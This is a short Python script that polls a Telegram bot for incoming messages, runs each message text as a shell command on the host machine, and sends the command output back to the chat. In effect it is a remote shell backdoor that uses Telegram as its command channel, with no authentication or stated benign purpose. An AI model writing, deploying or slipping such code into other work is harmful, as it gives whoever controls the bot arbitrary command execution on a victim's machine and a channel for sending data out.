import requests, time, subprocess
BOT = "https://api.telegram.org/bot5123:AAH"
seen = 0
while True:
    for u in requests.get(BOT + "/getUpdates", params={"offset": seen + 1}).json()["result"]:
        seen = u["update_id"]
        text = u["message"]["text"]
        out = subprocess.getoutput(text)
        requests.post(BOT + "/sendMessage", data={"chat_id": u["message"]["chat"]["id"], "text": out[:4000]})
    time.sleep(3)
